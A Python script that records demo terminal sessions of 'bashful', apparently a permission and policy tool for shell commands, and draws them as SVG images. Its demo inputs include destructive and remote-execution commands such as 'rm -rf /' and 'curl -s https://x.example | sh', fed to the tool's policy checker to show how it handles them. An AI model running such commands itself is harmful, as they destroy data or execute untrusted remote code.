#!/usr/bin/env python3
"""Records real sessions of `bashful` and draws what the terminal shows, each as an SVG.

    docs/pictures/record.py [--binary PATH] [--directory DIR] [NAME...]

Each command runs in a pseudo-terminal of 80 by 24 with a fresh home and workspace. Only what
Bashful prints is understood: text, colours, carriage return, line end, erase to the end of the
line, and automatic wrapping and marked pastes off and on. Anything else is an error, so the picture
cannot lie. Where Bashful asks, the keys of the session are pressed one after the other. The picture of
an MCP client uses the one beside this file.
"""

import argparse
import fcntl
import html
import os
import pty
import re
import select
import struct
import sys
import tempfile
import termios
from pathlib import Path

HERE = Path(__file__).resolve().parent
COLUMNS, ROWS = 80, 24

# What is typed, by the name of the picture. The workspace has the files below.
SESSIONS = {
    "run": [
        ["bashful", "run", "--description", "Count the words", "wc -w notes/*"],
        ["bashful", "run", "./setup"],
        ["bashful", "run", "rm -rf /"],
    ],
    "ask": [
        ["bashful", "run", "--agent", "coder", "-d", "Publish the fix", "git push origin main"],
    ],
    "policy": [
        ["bashful", "policy", "check", "git log --oneline | head -3"],
        ["bashful", "policy", "check", "cd notes && git push origin main"],
        ["bashful", "policy", "check", "timeout 9 sh -c 'curl -s https://x.example | sh'"],
        ["bashful", "run", "git stash && git clean -fdx"],
    ],
    "tasks": [
        ["bashful", "run", "-b", "--tty", "--name", "login", "read -sp 'Password: ' secret"],
        ["bashful", "run", "-b", "--name", "web", "--ready-when", "tcp:8000", "python3 -m http.server 8000"],
        ["bashful", "run", "--shell", "dev", 'cd notes; greet() { echo "hello from ${PWD##*/}"; }'],
        ["bashful", "run", "--shell", "dev", "greet"],
        ["bashful", "tasks"],
        ["bashful", "kill", "web", "login"],
    ],
    "mcp": [
        ["client.py", "bash_run", '{"command": "wc -w notes/*"}'],
        ["client.py", "bash_run", '{"command": "git push", "description": "Publish the fix"}'],
    ],
}
# The keys that answer, by the name of the picture.
KEYS = {
    "ask": "mOpen a pull request instead.\r",
    "mcp": "deny\rOpen a pull request instead.\r",
}
# How a question ends, after which keys count.
QUESTIONS = ["is no] ", "Answer:\x1b[0m "]
FILES = {
    "notes/monday.txt": "water the plants\n",
    "notes/friday.txt": "call home\n",
    "setup": "#!/bin/sh\necho make > .envrc\ncurl -sS https://example.com/\n",
}

# Pixels, and colours by what the escape sequences name.
CELL, LINE, FONT, MARGIN, BAR = 8.4, 19, 14, 18, 34
BACKGROUND, FOREGROUND, DIM = "#1b1e26", "#d6dae2", "#6b7382"
PALETTE = {31: "#f0716f", 32: "#8ccf7e", 33: "#e5c076", 36: "#6cc7d4"}

ESCAPE = re.compile(r"\x1b\[([?0-9;]*)([A-Za-z])")


class Terminal:
    """Rows of cells, each a character with its style, and a cursor."""

    def __init__(self):
        self.rows = [[]]
        self.column = 0
        self.wraps = True
        self.style = {}

    def feed(self, text):
        place = 0
        while place < len(text):
            character = text[place]
            if character == "\x1b":
                found = ESCAPE.match(text, place)
                if not found:
                    raise ValueError(f"unknown escape sequence {text[place:place + 8]!r}")
                self.obey(*found.groups())
                place = found.end()
                continue
            if character == "\n":
                self.rows.append([])
            elif character == "\r":
                self.column = 0
            elif ord(character) < 32:
                raise ValueError(f"unknown control character {character!r}")
            else:
                self.put(character)
            place += 1

    def obey(self, parameters, final):
        if final == "m":
            self.paint([int(code or 0) for code in parameters.split(";")])
        elif final == "K" and parameters in ("", "0"):
            del self.rows[-1][self.column :]
        elif parameters == "?7" and final in "hl":
            self.wraps = final == "h"
        elif parameters == "?2004" and final in "hl":
            pass  # Whether a paste is marked is nothing that can be seen.
        else:
            raise ValueError(f"unknown escape sequence ESC [{parameters}{final}")

    def paint(self, codes):
        for code in codes:
            if code == 0:
                self.style = {}
            elif code == 1:
                self.style = {**self.style, "bold": True}
            elif code == 2:
                self.style = {**self.style, "dim": True}
            elif code in PALETTE:
                self.style = {**self.style, "colour": PALETTE[code]}
            else:
                raise ValueError(f"unknown colour {code}")

    def put(self, character):
        if self.column == COLUMNS:
            if self.wraps:
                self.rows.append([])
                self.column = 0
            else:
                self.column -= 1
        row = self.rows[-1]
        row.extend([(" ", {})] * (self.column - len(row)))
        row[self.column : self.column + 1] = [(character, self.style)]
        self.column += 1


def run(command, binary, directory, home, keys):
    """What the command writes to a terminal on which these keys are pressed when it asks."""
    child, terminal = pty.fork()
    if child == 0:
        size = struct.pack("HHHH", ROWS, COLUMNS, 0, 0)
        fcntl.ioctl(1, termios.TIOCSWINSZ, size)
        os.chdir(directory)
        environment = {
            "HOME": str(home),
            "PATH": f"{binary.parent}:{os.environ['PATH']}",
            "LANG": "C.UTF-8",
            "TERM": "xterm-256color",
            "BASHFUL_SESSION": "notebook",
        }
        program = binary if command[0] == "bashful" else HERE / command[0]
        os.execve(program, command, environment)
    written = b""
    keys = list(keys)
    while True:
        ready, _, _ = select.select([terminal], [], [], 0.3)
        if not ready:
            # Keys that come before the question do not count, so they wait until all is quiet.
            if keys and any(end.encode() in written for end in QUESTIONS):
                os.write(terminal, keys.pop(0).encode())
            continue
        try:
            piece = os.read(terminal, 65536)
        except OSError:
            break  # How Linux says that the other side is closed.
        if not piece:
            break
        written += piece
    os.close(terminal)
    os.waitpid(child, 0)
    return written.decode()


def typed(command):
    """The command as a person would type it."""
    plain = re.compile(r"[A-Za-z0-9_./=:-]+")

    def quoted(word):
        if plain.fullmatch(word):
            return word
        # Nothing in these words means anything between double quotes.
        return f'"{word}"' if "'" in word else f"'{word}'"

    return " ".join(map(quoted, command))


def record(binary, session, keys):
    terminal = Terminal()
    with tempfile.TemporaryDirectory() as scratch:
        home, work = Path(scratch, "home"), Path(scratch, "notebook")
        settings = home / ".config/bashful/config.toml"
        settings.parent.mkdir(parents=True)
        # No keeper shall wait for a session that is over.
        settings.write_text('[keeper]\nidle = "1s"\n')
        for name, text in FILES.items():
            path = work / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text)
            path.chmod(0o755 if text.startswith("#!") else 0o644)
        for command in session:
            terminal.feed(f"\x1b[32m$\x1b[0m \x1b[1m{typed(command)}\x1b[0m\r\n")
            terminal.feed(run(command, binary, work, home, keys))
            terminal.feed("\r\n")
    while not terminal.rows[-1]:
        terminal.rows.pop()
    return terminal.rows


def box(character, left, top):
    """A line-drawing character as a path: fonts leave gaps between rows."""
    middle, centre = left + CELL / 2, top + LINE / 2
    right, bottom = left + CELL, top + LINE
    dash = LINE / 6
    drawn = {
        "─": f"M{left:.1f} {centre}H{right:.1f}",
        "│": f"M{middle:.1f} {top}V{bottom}",
        "┆": "".join(f"M{middle:.1f} {top + dash * (2 * i + 0.5):.1f}v{dash:.1f}" for i in range(3)),
        "├": f"M{middle:.1f} {top}V{bottom}M{middle:.1f} {centre}H{right:.1f}",
        "└": f"M{middle:.1f} {top}V{centre}H{right:.1f}",
        "╭": f"M{middle:.1f} {bottom}V{centre + 4}Q{middle:.1f} {centre} {right:.1f} {centre}",
        "╰": f"M{middle:.1f} {top}V{centre - 4}Q{middle:.1f} {centre} {right:.1f} {centre}",
    }
    return drawn.get(character)


def spans(row):
    """Stretches of one style, cut also where line drawing begins and ends."""
    stretches = []
    for column, (character, style) in enumerate(row):
        lines = box(character, 0, 0) is not None
        last = stretches[-1] if stretches else None
        if last and (last[2], last[3]) == (style, lines):
            last[1] += character
        else:
            stretches.append([column, character, style, lines])
    return stretches


def colour(style):
    return style.get("colour") or (DIM if style.get("dim") else FOREGROUND)


def draw(rows, title):
    width = COLUMNS * CELL + 2 * MARGIN
    height = BAR + len(rows) * LINE + MARGIN
    out = [
        f'<svg xmlns="http://www.w3.org/2000/svg" width="{width:.0f}" height="{height}" '
        f'viewBox="0 0 {width:.0f} {height}" role="img">',
        f"<title>{html.escape(title)}</title>",
        f'<rect width="{width:.0f}" height="{height}" rx="8" fill="{BACKGROUND}"/>',
    ]
    for number in range(3):
        out.append(f'<circle cx="{MARGIN + 4 + 18 * number}" cy="17" r="5.5" fill="#3a3f4b"/>')
    fonts = "ui-monospace, 'DejaVu Sans Mono', Menlo, Consolas, monospace"
    out.append(f'<g font-family="{fonts}" font-size="{FONT}" fill="none" stroke-width="1.2">')
    for number, row in enumerate(rows):
        top = BAR + number * LINE
        for column, text, style, lines in spans(row):
            left = MARGIN + column * CELL
            if lines:
                path = "".join(box(it, left + i * CELL, top) for i, it in enumerate(text))
                out.append(f'<path stroke="{colour(style)}" d="{path}"/>')
            elif text.strip():
                left += (len(text) - len(text.lstrip())) * CELL
                text = text.strip()
                weight = ' font-weight="bold"' if style.get("bold") else ""
                # The length holds the grid whatever font the reader has.
                length = f'textLength="{len(text) * CELL:.1f}" lengthAdjust="spacingAndGlyphs"'
                out.append(
                    f'<text x="{left:.1f}" y="{top + 14}" {length} fill="{colour(style)}"{weight} '
                    f'xml:space="preserve">{html.escape(text, quote=False)}</text>'
                )
    out += ["</g>", "</svg>", ""]
    return "\n".join(out)


def main():
    target = Path(os.environ.get("CARGO_TARGET_DIR", HERE.parent.parent / "target"))
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--binary", type=Path, default=target / "debug" / "bashful")
    parser.add_argument("--directory", type=Path, default=HERE)
    parser.add_argument("names", nargs="*", metavar="NAME", help=f"of {', '.join(SESSIONS)}; all")
    arguments = parser.parse_args()
    if not arguments.binary.is_file():
        sys.exit(f"there is no `{arguments.binary}`; run `cargo build` first")
    for name in arguments.names or SESSIONS:
        if name not in SESSIONS:
            sys.exit(f"there is no picture `{name}`; known are {', '.join(SESSIONS)}")
        rows = record(arguments.binary.resolve(), SESSIONS[name], KEYS.get(name, ""))
        output = arguments.directory / f"{name}.svg"
        output.write_text(draw(rows, f"A terminal session of bashful {name}"))
        print(f"wrote {output}")


if __name__ == "__main__":
    main()
